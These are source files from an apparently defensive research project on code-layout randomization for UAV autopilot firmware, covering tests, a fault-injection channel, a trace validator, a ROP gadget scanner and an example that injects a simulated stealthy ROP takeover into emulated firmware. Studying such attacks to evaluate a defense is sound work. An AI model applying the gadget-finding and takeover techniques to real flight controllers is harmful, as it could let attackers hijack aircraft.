      Alcotest.(check bool) "mismatch anchored at the corrupted site" true
        (List.exists (fun (m : Equiv.mismatch) -> m.Equiv.at = line.Mavr_avr.Disasm.byte_addr) ms)

let test_validator_catches_data_corruption () =
  let img = mavr_image () in
  let r = Randomize.randomize ~seed:5 img in
  if String.length r.Image.code <= r.Image.text_end then ()
  else
    let pos = r.Image.text_end in
    let flipped = String.make 1 (Char.chr (Char.code r.Image.code.[pos] lxor 0xFF)) in
    match Equiv.validate ~original:img ~randomized:(poke r pos flipped) with
    | Ok _ -> Alcotest.fail "validator accepted corrupted data"
    | Error ms ->
        Alcotest.(check bool) "mismatch anchored at the flipped byte" true
          (List.exists (fun (m : Equiv.mismatch) -> m.Equiv.at = pos) ms)

let () =
  Alcotest.run "dataflow"
    [
      ( "engine",
        [
          Alcotest.test_case "diamond join" `Quick test_solver_diamond;
          Alcotest.test_case "per-edge refinement" `Quick test_solver_per_edge_refinement;
          Alcotest.test_case "widening terminates a chain" `Quick
            test_solver_widening_terminates;
          Alcotest.test_case "sccs reverse topological" `Quick test_sccs_reverse_topological;
          Alcotest.test_case "callgraph partition" `Quick test_callgraph_partition;
        ] );
      ( "stack",
        [
          Alcotest.test_case "finite everywhere, interrupt frame counted" `Quick
            test_stackdepth_finite_and_tight;
          Alcotest.test_case "static dominates dynamic watermark" `Quick
            test_static_dominates_dynamic;
          Alcotest.test_case "static >= dynamic, 3 profiles x 10 layouts" `Slow
            test_property_static_ge_dynamic_all_profiles;
        ] );
      ( "taint",
        [
          Alcotest.test_case "finds the unchecked PARAM_SET copy" `Quick
            test_taint_finds_unchecked_copy;
          Alcotest.test_case "silent on the bounds-checked build" `Quick
            test_taint_silent_on_patched;
          Alcotest.test_case "stock build also vulnerable" `Quick test_taint_finds_copy_on_stock;
        ] );
      ( "validator",
        [
          Alcotest.test_case "accepts fresh randomized layouts" `Quick
            test_validator_accepts_randomized;
          Alcotest.test_case "accepts the identity layout" `Quick test_validator_accepts_identity;
          Alcotest.test_case "catches a mis-relocated call" `Quick
            test_validator_catches_misrelocated_call;
          Alcotest.test_case "catches corrupted data bytes" `Quick
            test_validator_catches_data_corruption;
        ] );
    ]
