module Splitmix = Mavr_prng.Splitmix
module Metrics = Mavr_telemetry.Metrics

type params = {
  bit_flip_ppm : int;
  drop_ppm : int;
  dup_ppm : int;
  burst_ppm : int;
  burst_len_max : int;
  jitter_max_ticks : int;
}

let clean =
  {
    bit_flip_ppm = 0;
    drop_ppm = 0;
    dup_ppm = 0;
    burst_ppm = 0;
    burst_len_max = 0;
    jitter_max_ticks = 0;
  }

let is_clean p =
  p.bit_flip_ppm = 0 && p.drop_ppm = 0 && p.dup_ppm = 0 && p.burst_ppm = 0
  && p.jitter_max_ticks = 0

type stats = {
  chunks : int;
  bytes_in : int;
  bytes_out : int;
  bits_flipped : int;
  bytes_dropped : int;
  bytes_duplicated : int;
  bursts : int;
  chunks_delayed : int;
}

type t = {
  params : params;
  rng : Splitmix.t;
  pending : (int * string) Queue.t;  (* (due tick, corrupted chunk) *)
  mutable last_due : int;
  mutable chunks : int;
  mutable bytes_in : int;
  mutable bytes_out : int;
  mutable bits_flipped : int;
  mutable bytes_dropped : int;
  mutable bytes_duplicated : int;
  mutable bursts : int;
  mutable chunks_delayed : int;
}

let create ~rng params =
  if params.burst_ppm > 0 && params.burst_len_max <= 0 then
    invalid_arg "Channel.create: burst_ppm > 0 needs burst_len_max > 0";
  {
    params;
    rng;
    pending = Queue.create ();
    last_due = min_int;
    chunks = 0;
    bytes_in = 0;
    bytes_out = 0;
    bits_flipped = 0;
    bytes_dropped = 0;
    bytes_duplicated = 0;
    bursts = 0;
    chunks_delayed = 0;
  }

let params t = t.params

let stats t =
  {
    chunks = t.chunks;
    bytes_in = t.bytes_in;
    bytes_out = t.bytes_out;
    bits_flipped = t.bits_flipped;
    bytes_dropped = t.bytes_dropped;
    bytes_duplicated = t.bytes_duplicated;
    bursts = t.bursts;
    chunks_delayed = t.chunks_delayed;
  }

(* Every rate test draws iff its rate is nonzero, so the consumed random
   stream is a pure function of (params, traffic) — the determinism the
   campaign engine's jobs-invariance rests on. *)
let hit rng ppm = ppm > 0 && Splitmix.int rng 1_000_000 < ppm

let corrupt t bytes =
  let len = String.length bytes in
  if len = 0 then ""
  else begin
    t.chunks <- t.chunks + 1;
    t.bytes_in <- t.bytes_in + len;
    let p = t.params in
    let bytes =
      if not (hit t.rng p.burst_ppm) then Bytes.of_string bytes
      else begin
        t.bursts <- t.bursts + 1;
        let b = Bytes.of_string bytes in
        let start = Splitmix.int t.rng len in
        let run = min (1 + Splitmix.int t.rng p.burst_len_max) (len - start) in
        for i = start to start + run - 1 do
          Bytes.set b i (Char.chr (Splitmix.int t.rng 256))
        done;
        b
      end
    in
    let out = Buffer.create (len + 4) in
    for i = 0 to len - 1 do
      if hit t.rng p.drop_ppm then t.bytes_dropped <- t.bytes_dropped + 1
      else begin
        let c = Char.code (Bytes.get bytes i) in
        let c =
          if hit t.rng p.bit_flip_ppm then begin
            t.bits_flipped <- t.bits_flipped + 1;
            c lxor (1 lsl Splitmix.int t.rng 8)
          end
          else c
        in
        Buffer.add_char out (Char.chr c);
        if hit t.rng p.dup_ppm then begin
          t.bytes_duplicated <- t.bytes_duplicated + 1;
          Buffer.add_char out (Char.chr c)
        end
      end
    done;
    t.bytes_out <- t.bytes_out + Buffer.length out;
    Buffer.contents out
  end

let push t ~now bytes =
  let c = corrupt t bytes in
  if c <> "" then begin
    let jitter =
      if t.params.jitter_max_ticks <= 0 then 0
      else Splitmix.int t.rng (t.params.jitter_max_ticks + 1)
    in
    if jitter > 0 then t.chunks_delayed <- t.chunks_delayed + 1;
    (* Monotone due times: a late chunk never overtakes an earlier one,
       so the receiver sees send order regardless of jitter draws. *)
    let due = max (now + jitter) t.last_due in
    t.last_due <- due;
    Queue.add (due, c) t.pending
  end

let due t ~now =
  if Queue.is_empty t.pending then ""
  else begin
    let out = Buffer.create 64 in
    let rec drain () =
      match Queue.peek_opt t.pending with
      | Some (d, c) when d <= now ->
          ignore (Queue.pop t.pending);
          Buffer.add_string out c;
          drain ()
      | _ -> ()
    in
    drain ();
    Buffer.contents out
  end

let transmit t ~now bytes =
  push t ~now bytes;
  due t ~now

let in_flight t = Queue.fold (fun acc (_, c) -> acc + String.length c) 0 t.pending

let attach_metrics ~prefix t registry =
  let sc name f = Metrics.sampled_counter registry (prefix ^ "." ^ name) f in
  sc "chunks" (fun () -> t.chunks);
  sc "bytes_in" (fun () -> t.bytes_in);
  sc "bytes_out" (fun () -> t.bytes_out);
  sc "bits_flipped" (fun () -> t.bits_flipped);
  sc "bytes_dropped" (fun () -> t.bytes_dropped);
  sc "bytes_duplicated" (fun () -> t.bytes_duplicated);
  sc "bursts" (fun () -> t.bursts);
  sc "chunks_delayed" (fun () -> t.chunks_delayed)
