lib/mavr/randomize.mli: Mavr_obj Mavr_prng
