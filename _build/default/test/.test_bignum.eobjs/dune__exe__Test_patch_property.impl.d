test/test_patch_property.ml: Alcotest Helpers List Mavr_asm Mavr_avr Mavr_core Mavr_obj Mavr_prng Printf QCheck
