lib/firmware/codegen.mli: Mavr_asm Mavr_prng Profile
