lib/firmware/runtime.ml: Layout List Mavr_asm Mavr_avr Profile
