lib/bignum/nat.mli: Format
