lib/avr/decode.ml: Char Isa String
