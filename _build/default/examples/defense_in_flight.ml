(* A defended flight: the full MAVR hardware/software stack in a closed
   loop — UAV dynamics, sensors, firmware on the emulated ATmega2560,
   master processor with external flash, and a monitoring ground station —
   under a sustained attack barrage.

     dune exec examples/defense_in_flight.exe
*)

module Sc = Mavr_sim.Scenario
module Gcs = Mavr_sim.Groundstation
module Master = Mavr_core.Master
module Rop = Mavr_core.Rop
module Layout = Mavr_firmware.Layout

let report label s =
  Format.printf "[%s] %a@." label Sc.pp_report (Sc.report s)

let () =
  print_endline "== Defense in flight: MAVR vs a malicious ground station ==\n";
  let build =
    Mavr_firmware.Build.build (Mavr_firmware.Profile.tiny ~n:100 ~seed:2024)
      Mavr_firmware.Profile.mavr
  in
  let ti = Rop.analyze build in
  let obs = Rop.observe ti in
  let takeover =
    Rop.v2_stealthy ti obs
      ~writes:[ Rop.write_u16 obs ~addr:Layout.gyro_cfg ~value:0x4000 ~neighbour:0 ]
  in

  (* -------- undefended UAV -------- *)
  print_endline "-- scenario A: undefended APM, stealthy takeover --";
  let s = Sc.create ~image:build.image Sc.No_defense in
  Sc.run s ~ms:500.0;
  Sc.inject s takeover;
  Sc.run s ~ms:2500.0;
  report "A" s;
  (match Gcs.last_gyro_raw (Sc.gcs s) with
  | Some raw ->
      Format.printf
        "    gyro telemetry now reads 0x%04x — the attacker is steering and nobody knows.@.@." raw
  | None -> ());

  (* -------- MAVR-defended UAV -------- *)
  print_endline "-- scenario B: MAVR-defended APM, same attack + brute-force probes --";
  let config = { Master.default_config with watchdog_window_cycles = 20_000 } in
  let s = Sc.create ~image:build.image (Sc.Mavr config) in
  (match Sc.master s with
  | Some m ->
      Format.printf "    master boot: randomized binary installed (%.0f ms startup overhead)@."
        (Master.last_overhead_ms m)
  | None -> ());
  Sc.run s ~ms:500.0;
  Sc.inject s takeover;
  Sc.run s ~ms:1500.0;
  (* The stealthy attack fizzles against the unknown layout; now the
     attacker falls back to brute-force probes. *)
  for _ = 1 to 3 do
    Sc.inject s (Rop.crash_probe ti);
    Sc.run s ~ms:1500.0
  done;
  report "B" s;
  (match Sc.master s with
  | Some m ->
      print_endline "    master event log:";
      List.iter (fun e -> Format.printf "      %a@." Master.pp_event e) (Master.events m)
  | None -> ());
  let cfg =
    Mavr_avr.Cpu.data_peek (Sc.app s) Layout.gyro_cfg
    lor (Mavr_avr.Cpu.data_peek (Sc.app s) (Layout.gyro_cfg + 1) lsl 8)
  in
  Format.printf "    takeover value present: %b — the UAV flies on its own terms.@." (cfg = 0x4000);

  (* -------- lifetime accounting -------- *)
  (match Sc.master s with
  | Some m ->
      let endurance = Mavr_avr.Device.atmega2560.flash_endurance in
      Format.printf
        "@.flash endurance: %d reprogramming cycles used of %d rated — at this attack rate the part survives %s more recoveries.@."
        (Master.reflashes m) endurance
        (string_of_int (endurance - Master.reflashes m))
  | None -> ())
