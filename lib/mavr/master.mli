(** The MAVR master processor (§V-A2, §VI-A).

    An ATmega1284P added to the APM board that (1) holds the preprocessed
    application HEX on the external flash chip — the only entry point for
    new code, (2) randomizes and programs the application processor at
    boot or on a configured schedule, and (3) then acts as a watchdog
    listener: when the application stops feeding it (the signature of a
    failed ROP attempt executing garbage), it resets, re-randomizes and
    reprograms the application processor, so the UAV recovers in flight
    and every attack faces a fresh layout. *)

type config = {
  link : Serial.t;
  randomize_every_boots : int;
      (** randomize on boots 1, 1+k, 1+2k, … ; 1 = every boot.  Larger
          values trade entropy refresh for flash endurance (§V-C). *)
  watchdog_window_cycles : int;
      (** application cycles without a feed before an attack is flagged *)
  seed : int;  (** the master's entropy source *)
}

val default_config : config

type event =
  | Booted of { boot : int; randomized : bool; overhead_ms : float }
  | Attack_detected of { at_cycles : int; reason : string }
  | Reflashed of { generation : int; overhead_ms : float }

val pp_event : Format.formatter -> event -> unit

type t

val create : ?config:config -> unit -> t

(** [provision t image] is the host-side flashing step: the preprocessed
    HEX (symbol table prepended, §VI-B2) is stored verbatim on the
    external flash chip. *)
val provision : t -> Mavr_obj.Image.t -> unit

(** Raw HEX text currently on the external flash. *)
val stored_hex : t -> string

(** [boot t ~app] programs the application processor and starts it.  The
    binary is randomized when the boot counter hits the schedule.
    @raise Invalid_argument when not provisioned. *)
val boot : t -> app:Mavr_avr.Cpu.t -> unit

(** The image currently running on the application processor.  Note this
    is the master's knowledge; the attacker can never read it (readout
    protection fuse, §V-A3). *)
val current_image : t -> Mavr_obj.Image.t

val boots : t -> int

(** Number of reprogramming operations performed (flash wear; the part is
    rated for 10,000, §VI-A). *)
val reflashes : t -> int

(** Flash pages programmed in total and the streaming randomizer's peak
    working set (bytes) — the §VI-B3 memory discipline, which must stay
    under the ATmega1284P's 16 KB SRAM. *)
val pages_programmed : t -> int

val peak_working_set : t -> int

val last_overhead_ms : t -> float
val events : t -> event list
val attacks_detected : t -> int

(** {2 Reflash-stream faults}

    With a fault model armed ({!set_reflash_faults}), every programming
    session becomes stream → CRC-16 verify against the stored image →
    bounded re-streams on mismatch → page-by-page acknowledged fallback
    when the retry budget is exhausted.  The application always ends up
    running a verified image; the faults cost transfer time, never
    correctness. *)

val set_reflash_faults : t -> Mavr_fault.Reflash.t option -> unit

(** Extra transfers forced by the most recent programming session
    (verify retries, +1 when it fell back); 0 on a clean stream. *)
val last_flash_retries : t -> int

(** Sessions that exhausted the retry budget and fell back. *)
val fallback_streams : t -> int

(** [check_and_recover t ~app] performs one watchdog evaluation: when the
    application has halted or has been silent past the configured window,
    the master re-randomizes and reprograms it.  Returns [true] when a
    failed attack was detected and handled. *)
val check_and_recover : t -> app:Mavr_avr.Cpu.t -> bool

(** [supervise t ~app ~cycles] runs the application for [cycles] cycles
    under watchdog supervision.  Every halt or feed-silence is handled by
    re-randomizing and restarting the application processor.  Returns the
    number of failed attacks detected during this window. *)
val supervise : t -> app:Mavr_avr.Cpu.t -> cycles:int -> int

(** [startup_overhead_ms t image_bytes] — the Table II quantity for this
    master's link. *)
val startup_overhead_ms : t -> int -> float

(** [attach_telemetry ?prefix t ~registry ~recorder] exports the master's
    counters as sampled gauges ([<prefix>.boots], [.reflashes],
    [.attacks_detected], [.pages_programmed], [.peak_working_set];
    default prefix ["master"]) and instruments every flash session with
    the Table II phase decomposition: spans on [recorder]
    ([master.flash_session] begin/end framing [master.phase.patch] /
    [.serial] / [.page_writes] point events, values in modeled µs) and
    microsecond histograms ([<prefix>.flash.patch_us], [.serial_us],
    [.page_write_us], [.total_us]).  Reflash-fault bookkeeping rides
    along: an extra-transfers-per-session histogram
    ([<prefix>.flash.retries]) and a fallback tally
    ([<prefix>.flash.fallback_streams], a sampled counter). *)
val attach_telemetry :
  ?prefix:string ->
  t ->
  registry:Mavr_telemetry.Metrics.registry ->
  recorder:Mavr_telemetry.Recorder.t ->
  unit
