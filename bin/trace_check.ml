(* trace_check — validate and normalize observability artifacts.

   Modes:
     trace_check FILE             validate FILE against the Chrome
                                  trace_event schema subset Span emits
     trace_check --strip FILE     validate, then re-emit the document
                                  (compact, to stdout) with every
                                  host-process ts/dur/cpu field zeroed —
                                  the jobs-invariant form bin/dune
                                  byte-diffs across --jobs values
     trace_check --progress FILE  validate a Progress JSONL stream:
                                  every line parses, seq increases by 1,
                                  done is monotonic and never exceeds
                                  total
     trace_check --analyze FILE   validate a `mavr analyze --json`
                                  document against schema version 2:
                                  required cfg/gadgets/census sections
                                  plus well-formed optional stack /
                                  taint / translation_validation /
                                  stack_verify sections

   Exit codes: 0 valid, 1 invalid, 2 usage. *)

module J = Mavr_telemetry.Json

let fail fmt = Printf.ksprintf (fun s -> prerr_endline ("trace_check: " ^ s); exit 1) fmt

let read_file path =
  try
    let ic = open_in_bin path in
    let n = in_channel_length ic in
    let s = really_input_string ic n in
    close_in ic;
    s
  with Sys_error e -> fail "%s" e

let mem name j = J.member name j
let str name j = Option.bind (mem name j) J.to_str
let int name j = Option.bind (mem name j) J.to_int
let num name j = Option.bind (mem name j) J.to_float

(* ---- trace_event validation ----------------------------------------- *)

let meta_names = [ "process_name"; "process_sort_index"; "thread_name"; "thread_sort_index" ]

let validate_event i ev =
  let ctx = Printf.sprintf "traceEvents[%d]" i in
  (match ev with J.Obj _ -> () | _ -> fail "%s: not an object" ctx);
  let name = match str "name" ev with Some n -> n | None -> fail "%s: missing name" ctx in
  (match int "pid" ev with Some _ -> () | None -> fail "%s (%s): missing pid" ctx name);
  (match int "tid" ev with Some _ -> () | None -> fail "%s (%s): missing tid" ctx name);
  match str "ph" ev with
  | Some "M" ->
      if not (List.mem name meta_names) then fail "%s: unknown metadata event %S" ctx name;
      (match mem "args" ev with
      | Some (J.Obj _) -> ()
      | _ -> fail "%s (%s): metadata without args object" ctx name)
  | Some "X" ->
      (match num "ts" ev with Some _ -> () | None -> fail "%s (%s): complete event without numeric ts" ctx name);
      (match num "dur" ev with Some _ -> () | None -> fail "%s (%s): complete event without numeric dur" ctx name)
  | Some "i" ->
      (match num "ts" ev with Some _ -> () | None -> fail "%s (%s): instant without numeric ts" ctx name);
      (match str "s" ev with Some _ -> () | None -> fail "%s (%s): instant without scope" ctx name)
  | Some ph -> fail "%s (%s): unsupported phase %S" ctx name ph
  | None -> fail "%s (%s): missing ph" ctx name

(* pid → process name, from process_name metadata. *)
let process_names events =
  List.filter_map
    (fun ev ->
      match (str "ph" ev, str "name" ev) with
      | Some "M", Some "process_name" -> (
          match (int "pid" ev, Option.bind (mem "args" ev) (str "name")) with
          | Some pid, Some pname -> Some (pid, pname)
          | _ -> None)
      | _ -> None)
    events

let validate_trace doc =
  let events =
    match mem "traceEvents" doc with
    | Some (J.List evs) -> evs
    | Some _ -> fail "traceEvents is not a list"
    | None -> fail "missing traceEvents"
  in
  if events = [] then fail "empty traceEvents";
  List.iteri validate_event events;
  let procs = process_names events in
  if procs = [] then fail "no process_name metadata";
  List.iter
    (fun (pid, pname) ->
      if pname <> "host" && pname <> "cycles" then
        fail "pid %d has unexpected process name %S" pid pname)
    procs;
  (* Thread names must be unique within a process — Perfetto merges rows
     otherwise, and duplicate lanes would hide a Span.lane collision. *)
  let seen = Hashtbl.create 64 in
  List.iter
    (fun ev ->
      match (str "ph" ev, str "name" ev) with
      | Some "M", Some "thread_name" -> (
          match (int "pid" ev, int "tid" ev, Option.bind (mem "args" ev) (str "name")) with
          | Some pid, Some _, Some tname ->
              if Hashtbl.mem seen (pid, tname) then
                fail "duplicate lane %S in pid %d" tname pid;
              Hashtbl.add seen (pid, tname) ()
          | _ -> ())
      | _ -> ())
    events;
  events

(* ---- timing strip ---------------------------------------------------- *)

let strip_trace doc events =
  let host_pids =
    List.filter_map (fun (pid, n) -> if n = "host" then Some pid else None) (process_names events)
  in
  let is_host ev = match int "pid" ev with Some p -> List.mem p host_pids | None -> false in
  let zero_field k kvs =
    List.map (fun (key, v) -> if key = k then (key, J.Int 0) else (key, v)) kvs
  in
  let strip_ev ev =
    match ev with
    | J.Obj kvs when is_host ev && str "ph" ev <> Some "M" ->
        let kvs = zero_field "ts" (zero_field "dur" kvs) in
        let kvs =
          List.map
            (function
              | "args", J.Obj akvs -> ("args", J.Obj (zero_field "cpu_dur_us" akvs))
              | kv -> kv)
            kvs
        in
        J.Obj kvs
    | ev -> ev
  in
  match doc with
  | J.Obj kvs ->
      J.Obj
        (List.map
           (function
             | "traceEvents", J.List evs -> ("traceEvents", J.List (List.map strip_ev evs))
             | kv -> kv)
           kvs)
  | _ -> fail "trace document is not an object"

(* ---- progress stream validation -------------------------------------- *)

let validate_progress path =
  let lines =
    String.split_on_char '\n' (read_file path) |> List.filter (fun l -> String.trim l <> "")
  in
  if lines = [] then fail "empty progress stream";
  let last_seq = ref 0 and last_done = ref 0 and last_total = ref 0 in
  List.iteri
    (fun i line ->
      let ctx = Printf.sprintf "line %d" (i + 1) in
      let j = match J.of_string line with Ok j -> j | Error e -> fail "%s: %s" ctx e in
      let seq = match int "seq" j with Some s -> s | None -> fail "%s: missing seq" ctx in
      if seq <> !last_seq + 1 then
        fail "%s: seq %d after %d (dropped or reordered lines)" ctx seq !last_seq;
      last_seq := seq;
      let d = match int "done" j with Some d -> d | None -> fail "%s: missing done" ctx in
      let total = match int "total" j with Some t -> t | None -> fail "%s: missing total" ctx in
      if d < !last_done then fail "%s: done went backwards (%d after %d)" ctx d !last_done;
      if d > total then fail "%s: done %d exceeds total %d" ctx d total;
      last_done := d;
      last_total := total;
      match str "reason" j with Some _ -> () | None -> fail "%s: missing reason" ctx)
    lines;
  Printf.printf "progress ok: %d lines, %d/%d tasks\n" (List.length lines) !last_done !last_total

(* ---- analyze document validation ------------------------------------- *)

let analyze_schema_version = 2

(* A stack bound serializes as an int (finite) or {"unbounded": why}. *)
let check_bound ctx = function
  | Some (J.Int _) -> ()
  | Some (J.Obj _ as o) -> (
      match str "unbounded" o with
      | Some _ -> ()
      | None -> fail "%s: object bound without an unbounded reason" ctx)
  | Some _ -> fail "%s: bound is neither int nor object" ctx
  | None -> fail "%s: missing" ctx

let validate_analyze path =
  let doc =
    match J.of_string (read_file path) with Ok j -> j | Error e -> fail "%s: %s" path e
  in
  (match int "schema" doc with
  | Some v when v = analyze_schema_version -> ()
  | Some v -> fail "analyze schema version %d, expected %d" v analyze_schema_version
  | None -> fail "missing schema version");
  (match str "profile" doc with Some _ -> () | None -> fail "missing profile");
  (match str "toolchain" doc with
  | Some ("mavr" | "stock" | "patched") -> ()
  | Some t -> fail "unknown toolchain %S" t
  | None -> fail "missing toolchain");
  let section name =
    match mem name doc with
    | Some (J.Obj _ as o) -> Some o
    | Some _ -> fail "%s is not an object" name
    | None -> None
  in
  let require name =
    match section name with Some o -> o | None -> fail "missing %s section" name
  in
  let ints o oname keys =
    List.iter
      (fun k -> match int k o with Some _ -> () | None -> fail "%s.%s missing" oname k)
      keys
  in
  ints (require "cfg") "cfg"
    [ "entries"; "reachable_insns"; "reachable_bytes"; "exec_bytes"; "blocks";
      "sweep_insns"; "sweep_bytes" ];
  ints (require "gadgets") "gadgets" [ "total" ];
  ignore (require "census");
  let sections = ref [ "cfg"; "gadgets"; "census" ] in
  Option.iter
    (fun stack ->
      sections := "stack" :: !sections;
      ints stack "stack" [ "entries"; "iterations" ];
      List.iter
        (fun k -> check_bound ("stack." ^ k) (mem k stack))
        [ "main_total"; "isr_extra"; "image_bound" ])
    (section "stack");
  Option.iter
    (fun taint ->
      sections := "taint" :: !sections;
      ints taint "taint" [ "iterations"; "nodes" ];
      match mem "findings" taint with
      | Some (J.List fs) ->
          List.iteri
            (fun i f ->
              let ctx = Printf.sprintf "taint.findings[%d]" i in
              (match str "fn" f with Some _ -> () | None -> fail "%s: missing fn" ctx);
              ints f ctx [ "branch_addr"; "store_addr" ];
              match str "detail" f with Some _ -> () | None -> fail "%s: missing detail" ctx)
            fs
      | _ -> fail "taint.findings missing or not a list")
    (section "taint");
  Option.iter
    (fun tv ->
      sections := "translation_validation" :: !sections;
      match mem "ok" tv with
      | Some (J.Bool true) -> (
          match mem "stats" tv with
          | Some (J.Obj _ as s) ->
              ints s "translation_validation.stats"
                [ "functions"; "insns"; "edges"; "funptrs"; "vectors" ]
          | _ -> fail "translation_validation ok without stats")
      | Some (J.Bool false) -> (
          match mem "mismatches" tv with
          | Some (J.List (_ :: _)) -> ()
          | _ -> fail "translation_validation failed without mismatches")
      | _ -> fail "translation_validation.ok missing")
    (section "translation_validation");
  Option.iter
    (fun sv ->
      sections := "stack_verify" :: !sections;
      ints sv "stack_verify" [ "ms"; "stack_top" ];
      check_bound "stack_verify.static_bound" (mem "static_bound" sv);
      match mem "ok" sv with
      | Some (J.Bool _) -> ()
      | _ -> fail "stack_verify.ok missing")
    (section "stack_verify");
  Printf.printf "analyze ok: schema %d, sections %s\n" analyze_schema_version
    (String.concat "," (List.rev !sections))

let () =
  match Sys.argv with
  | [| _; "--progress"; path |] -> validate_progress path
  | [| _; "--analyze"; path |] -> validate_analyze path
  | [| _; "--strip"; path |] | [| _; path |] ->
      let strip = Sys.argv.(1) = "--strip" in
      let doc =
        match J.of_string (read_file path) with Ok j -> j | Error e -> fail "%s: %s" path e
      in
      let events = validate_trace doc in
      if strip then print_endline (J.to_string (strip_trace doc events))
      else Printf.printf "trace ok: %d events\n" (List.length events)
  | _ ->
      prerr_endline
        "usage: trace_check [--strip] FILE | trace_check --progress FILE | trace_check \
         --analyze FILE";
      exit 2
