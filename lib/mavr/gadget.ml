module Isa = Mavr_avr.Isa
module Image = Mavr_obj.Image

type kind = Stk_move | Write_mem | Pop_chain | Plain

type t = { byte_addr : int; insns : Isa.t list; kind : kind }

let kind_name = function
  | Stk_move -> "stk_move"
  | Write_mem -> "write_mem"
  | Pop_chain -> "pop_chain"
  | Plain -> "plain"

(* Control transfers end a straight-line gadget body. *)
let breaks_flow = function
  | Isa.Ret | Isa.Reti | Isa.Jmp _ | Isa.Rjmp _ | Isa.Call _ | Isa.Rcall _ | Isa.Icall
  | Isa.Ijmp | Isa.Brbs _ | Isa.Brbc _ | Isa.Cpse _ | Isa.Sbic _ | Isa.Sbis _ | Isa.Sbrc _
  | Isa.Sbrs _ | Isa.Data _ | Isa.Break | Isa.Sleep ->
      true
  | Isa.Nop | Isa.Movw _ | Isa.Ldi _ | Isa.Mov _ | Isa.Add _ | Isa.Adc _ | Isa.Sub _
  | Isa.Sbc _ | Isa.And _ | Isa.Or _ | Isa.Eor _ | Isa.Cp _ | Isa.Cpc _ | Isa.Mul _
  | Isa.Subi _ | Isa.Sbci _ | Isa.Andi _ | Isa.Ori _ | Isa.Cpi _ | Isa.Com _ | Isa.Neg _
  | Isa.Inc _ | Isa.Dec _ | Isa.Lsr _ | Isa.Ror _ | Isa.Asr _ | Isa.Swap _ | Isa.Push _
  | Isa.Pop _ | Isa.In _ | Isa.Out _ | Isa.Lds _ | Isa.Sts _ | Isa.Ldd _ | Isa.Std _
  | Isa.Ld _ | Isa.St _ | Isa.Adiw _ | Isa.Sbiw _ | Isa.Lpm0 | Isa.Lpm _ | Isa.Elpm0
  | Isa.Elpm _ | Isa.Sbi _ | Isa.Cbi _ | Isa.Bld _ | Isa.Bst _ | Isa.Bset _ | Isa.Bclr _
  | Isa.Wdr ->
      false

let classify insns =
  let spl = Mavr_avr.Device.Io.spl and sph = Mavr_avr.Device.Io.sph in
  let writes_spl = List.exists (function Isa.Out (a, _) -> a = spl | _ -> false) insns in
  let writes_sph = List.exists (function Isa.Out (a, _) -> a = sph | _ -> false) insns in
  let stds = List.length (List.filter (function Isa.Std _ -> true | _ -> false) insns) in
  let pops = List.length (List.filter (function Isa.Pop _ -> true | _ -> false) insns) in
  if writes_spl && writes_sph then Stk_move
  else if stds >= 1 && pops >= 2 then Write_mem
  else if pops >= 3 then Pop_chain
  else Plain

let exec_regions (img : Image.t) =
  [ (0, img.exec_low_end); (img.text_start, img.text_end) ]

let scan ?(max_len = 8) img =
  let gadgets = ref [] in
  List.iter
    (fun (start, stop) ->
      (* Decode at every word offset, the way the CPU's predecode cache
         covers every word address: a ret can be entered not only from
         linear-sweep boundaries but from the middle of any two-word
         instruction, and each such entry is a distinct gadget. *)
      let words = Mavr_avr.Disasm.decode_words ~pos:start ~len:(stop - start) img.Image.code in
      let n = Array.length words in
      (* The forward decode chain from a given entry is deterministic, so
         enumerating entries (rather than per-ret suffixes) dedupes
         overlapping suffixes by construction: each entry address yields at
         most one gadget. *)
      let rec chain i count acc =
        if i >= n then None
        else
          let insn, size = words.(i) in
          if start + (2 * i) + size > stop then None
          else if insn = Isa.Ret then Some (List.rev (insn :: acc))
          else if count + 1 >= max_len || breaks_flow insn then None
          else chain (i + (size / 2)) (count + 1) (insn :: acc)
      in
      for i = n - 1 downto 0 do
        match chain i 0 [] with
        | Some (_ :: _ :: _ as insns) ->
            let body = List.filteri (fun k _ -> k < List.length insns - 1) insns in
            if List.exists Isa.is_useful_for_gadget body then
              gadgets := { byte_addr = start + (2 * i); insns; kind = classify body } :: !gadgets
        | Some _ | None -> ()
      done)
    (List.rev (exec_regions img));
  !gadgets

let count_by_kind gadgets =
  List.fold_left
    (fun acc g ->
      let n = try List.assoc g.kind acc with Not_found -> 0 in
      (g.kind, n + 1) :: List.remove_assoc g.kind acc)
    [] gadgets

type paper_gadgets = { stk_move : int; write_mem : int; write_mem_pops : int }

let locate_paper_gadgets (img : Image.t) =
  let spl = Mavr_avr.Device.Io.spl and sph = Mavr_avr.Device.Io.sph in
  let lines =
    List.concat_map
      (fun (start, stop) ->
        List.rev
          (Mavr_avr.Decode.fold_program img.Image.code ~pos:start ~len:(stop - start)
             (fun acc addr insn -> (addr, insn) :: acc)
             []))
      (exec_regions img)
  in
  let arr = Array.of_list lines in
  let n = Array.length arr in
  (* Fig. 4 shape: out SPH; out SREG; out SPL; pop; pop; pop; ret. *)
  let find_stk_move () =
    let rec go i =
      if i + 6 >= n then None
      else
        match
          ( snd arr.(i), snd arr.(i + 1), snd arr.(i + 2), snd arr.(i + 3), snd arr.(i + 4),
            snd arr.(i + 5), snd arr.(i + 6) )
        with
        | Isa.Out (a1, _), Isa.Out (_, _), Isa.Out (a3, _), Isa.Pop _, Isa.Pop _, Isa.Pop _, Isa.Ret
          when a1 = sph && a3 = spl ->
            Some (fst arr.(i))
        | _ -> go (i + 1)
    in
    go 0
  in
  (* Fig. 5 shape: std Y+1; std Y+2; std Y+3; then a run of pops ending in ret. *)
  let find_write_mem () =
    let rec pops_until_ret i count =
      if i >= n then None
      else
        match snd arr.(i) with
        | Isa.Pop _ -> pops_until_ret (i + 1) (count + 1)
        | Isa.Ret when count >= 10 -> Some ()
        | _ -> None
    in
    let rec go i =
      if i + 3 >= n then None
      else
        match (snd arr.(i), snd arr.(i + 1), snd arr.(i + 2)) with
        | Isa.Std (Isa.Y, 1, _), Isa.Std (Isa.Y, 2, _), Isa.Std (Isa.Y, 3, _) -> (
            match pops_until_ret (i + 3) 0 with
            | Some () -> Some (fst arr.(i), fst arr.(i + 3))
            | None -> go (i + 1))
        | _ -> go (i + 1)
    in
    go 0
  in
  match (find_stk_move (), find_write_mem ()) with
  | Some stk_move, Some (write_mem, write_mem_pops) -> Some { stk_move; write_mem; write_mem_pops }
  | _ -> None

let pp fmt g =
  Format.fprintf fmt "@[<v>gadget %s at 0x%x:@," (kind_name g.kind) g.byte_addr;
  List.iter (fun i -> Format.fprintf fmt "  %a@," Isa.pp i) g.insns;
  Format.fprintf fmt "@]"
